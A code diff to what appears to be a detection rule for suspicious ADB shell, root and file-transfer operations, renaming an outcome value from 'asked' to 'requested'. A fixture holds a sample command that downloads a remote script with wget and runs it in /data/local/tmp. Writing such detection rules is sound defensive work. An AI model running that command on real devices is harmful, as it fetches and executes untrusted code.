@@ -7,7 +7,7 @@ const shell = {
   name: 'Open shell',
   code: 'shell',
   object: 'cd /data/local/tmp; wget http://203.0.113.9/a.sh; sh a.sh',
-  outcome: 'asked',
+  outcome: 'requested',
 } as const
 const place = { protocol: 'adb', serverPort: 5555 } as const
 /** Shells, restarts, requests for root and file transfers. */
@@ -34,9 +34,9 @@ export const rule = defineRule({
   ],
   falsePositives: 'Developers who work on their own device.',
   watches: 'operation',
-  concerns: { protocols: ['adb'], outcomes: ['asked'], verbs: COMMANDS },
+  concerns: { protocols: ['adb'], outcomes: ['requested'], verbs: COMMANDS },
   evaluate({ fact, protocol }, context) {
-    if (protocol !== 'adb' || fact.kind !== 'operation' || fact.outcome !== 'asked') return undefined
+    if (protocol !== 'adb' || fact.kind !== 'operation' || fact.outcome !== 'requested') return undefined
     if (!COMMANDS.includes(fact.verb)) return undefined
     if (!context.isLearning && context.isUsual()) return undefined
     const line = fact.object === undefined ? '' : `: ${fact.object.slice(0, 100)}`
